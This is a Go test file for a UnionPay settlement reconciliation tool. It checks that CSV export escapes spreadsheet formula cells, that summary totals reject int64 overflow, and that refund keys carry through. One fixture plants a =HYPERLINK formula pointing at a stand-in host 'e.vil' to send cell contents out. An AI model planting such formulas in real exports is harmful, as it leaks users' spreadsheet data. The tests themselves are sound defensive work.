package main

import (
	"bytes"
	"encoding/csv"
	"math"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/goacp/unionpay/reconcile"
)

// TestReconcileCSVFormulas: text cells of -format csv that a spreadsheet would run as formulas
// (a settlement file's fields come from outside: an orderId of =HYPERLINK(...)) are written as
// text, as reconcile.WriteCSV writes them (a penetration test found the command's own CSV
// writing them bare).
func TestReconcileCSVFormulas(t *testing.T) {
	day := time.Date(2026, 11, 25, 0, 0, 0, 0, reconcile.Beijing())
	recs := testRecords(day)
	recs[0].OrderID = `=HYPERLINK("http://e.vil/?"&A1)`
	recs[1].OrderID, recs[1].OrigOrderID = "+SHOP0002", "@SHOP0001"
	s := reconcile.Settlement{MerID: "777290058110048", MerName: "测试商户", AcqInsCode: "88022900", SettleDate: day,
		Records: recs}
	zipBytes, err := s.Zip()
	require.NoError(t, err)
	path := writeTestFile(t, t.TempDir(), reconcile.ArchiveName(s.MerID, day), zipBytes)

	r := runCLI(t, "", "reconcile", "-format", "csv", path)
	require.Equal(t, exitOK, r.code, r.stderr)
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	assert.Equal(t, `'=HYPERLINK("http://e.vil/?"&A1)`, rows[1][2])
	assert.Equal(t, "'+SHOP0002", rows[2][2])
	assert.Equal(t, "'@SHOP0001", rows[2][5])
	assert.Equal(t, "-3976", rows[2][15], "amounts stay numbers")
	for _, row := range rows[1:] {
		for i, cell := range row[2:13] { // the text columns, orderId to accNo
			if cell != "" {
				assert.NotContains(t, "=+-@", cell[:1], "column %s: %q", csvHeader[i+2], cell)
			}
		}
	}
}

// TestSummaryRefusesOverflow: -summary prints no totals when they do not fit in int64 fen (ZM
// members added together can get there within Open's limits: a penetration test printed a
// negative txnAmtCredit and exit 0).
func TestSummaryRefusesOverflow(t *testing.T) {
	var tally reconcile.Tally
	tally.Add(&reconcile.Record{TxnType: "01", TxnAmt: math.MaxInt64})
	tally.Add(&reconcile.Record{TxnType: "01", TxnAmt: 1})
	var out bytes.Buffer
	err := newRecordWriter(&out, "json", true).finish(&tally, true)
	require.ErrorIs(t, err, reconcile.ErrOverflow)
	assert.Empty(t, out.String())
}

// TestReconcileCSVEveryTextColumn: every text column, not only the ids, goes through
// CSVText: a settlement file's txnSubType, bizType and traceNo are free text to the parser too
// (escaping only the first five columns went unnoticed: the existing test planted formulas in
// orderId and origOrderId alone).
func TestReconcileCSVEveryTextColumn(t *testing.T) {
	day := time.Date(2026, 11, 25, 0, 0, 0, 0, reconcile.Beijing())
	recs := testRecords(day)
	recs[0].TxnSubType, recs[0].BizType, recs[0].TraceNo = "=1", "=1+1+1", "@SUM(1"
	s := reconcile.Settlement{MerID: "777290058110048", MerName: "测试商户", AcqInsCode: "88022900", SettleDate: day,
		Records: recs}
	zipBytes, err := s.Zip()
	require.NoError(t, err)
	path := writeTestFile(t, t.TempDir(), reconcile.ArchiveName(s.MerID, day), zipBytes)
	r := runCLI(t, "", "reconcile", "-format", "csv", path)
	require.Equal(t, exitOK, r.code, r.stderr)
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	col := func(name string) int {
		for i, h := range rows[0] {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	assert.Equal(t, "'=1", rows[1][col("txnSubType")])
	assert.Equal(t, "'=1+1+1", rows[1][col("bizType")])
	assert.Equal(t, "'@SUM(1", rows[1][col("traceNo")])
}

// Kills M21, M22, M23, M34, M35: the ZME row's txnCode and orig* keys, and a ZM refund's
// origTraceNo and origTxnTime, carry the file's values (the sample's ZM rows have them empty).
func TestReviewKillRowOrigKeys(t *testing.T) {
	r := runCLI(t, "", "reconcile", trialZME)
	require.Equal(t, exitOK, r.code, r.stderr)
	lines := strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n")
	require.Len(t, lines, 3)
	assert.Contains(t, lines[2], `"txnCode":"E74","origTraceNo":"000004","origTxnTime":"2026-11-27T06:22:03+08:00","origTxnAmt":5000}`)

	day := time.Date(2026, 11, 25, 0, 0, 0, 0, reconcile.Beijing())
	recs := testRecords(day)
	recs[1].OrigTraceNo, recs[1].OrigTxnTime = "100001", recs[0].TxnTime
	s := reconcile.Settlement{MerID: "777290058110048", MerName: "测试商户", AcqInsCode: "88022900", SettleDate: day, Records: recs}
	zipBytes, err := s.Zip()
	require.NoError(t, err)
	path := writeTestFile(t, t.TempDir(), reconcile.ArchiveName(s.MerID, day), zipBytes)
	r = runCLI(t, "", "reconcile", path)
	require.Equal(t, exitOK, r.code, r.stderr)
	lines = strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n")
	require.Len(t, lines, 2)
	assert.Contains(t, lines[1], `"txnCode":"S30","origTraceNo":"100001","origTxnTime":"2026-11-25T10:00:00+08:00","origTxnAmt":0}`)
}

// TestReconcileCSVFormulaBehindSpaceOrFullWidth: the CSV output neutralises an orderId's formula
// behind spaces or written with the full-width ＝ ＋ － ＠ (reconcile.CSVText), in the records and
// in the -orders report alike.
func TestReconcileCSVFormulaBehindSpaceOrFullWidth(t *testing.T) {
	cases := []struct{ name, value, want string }{
		{"spaces before =", "  =1+1", "'  =1+1"},
		{"full-width =", "＝1+1", "'＝1+1"},
		{"full-width +", "＋1", "'＋1"},
		{"full-width -", "－1", "'－1"},
		{"full-width @", "＠SUM(1)", "'＠SUM(1)"},
		{"plain text", "A1", "A1"},
	}
	day := time.Date(2026, 11, 25, 0, 0, 0, 0, reconcile.Beijing())
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			recs := testRecords(day)
			recs[0].OrderID = c.value // a settlement file's field holds no line end
			s := reconcile.Settlement{MerID: "777290058110048", MerName: "测试商户", AcqInsCode: "88022900",
				SettleDate: day, Records: recs}
			zipBytes, err := s.Zip()
			require.NoError(t, err)
			dir := t.TempDir()
			path := writeTestFile(t, dir, reconcile.ArchiveName(s.MerID, day), zipBytes)
			for _, args := range [][]string{{path}, {"-orders", writeTestFile(t, dir, "orders.csv", []byte(ordersOK)), path}} {
				r := runCLI(t, "", append([]string{"reconcile", "-format", "csv"}, args...)...)
				rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
				require.NoError(t, err, r.stderr)
				var found bool
				for _, row := range rows[1:] {
					for _, cell := range row {
						found = found || cell == c.want
						if strings.TrimPrefix(cell, "'") == c.value && cell != c.want {
							t.Errorf("%v: %q, want %q", args, cell, c.want)
						}
					}
				}
				assert.True(t, found, "%v: no cell %q in %q", args, c.want, r.stdout)
			}
		})
	}
}
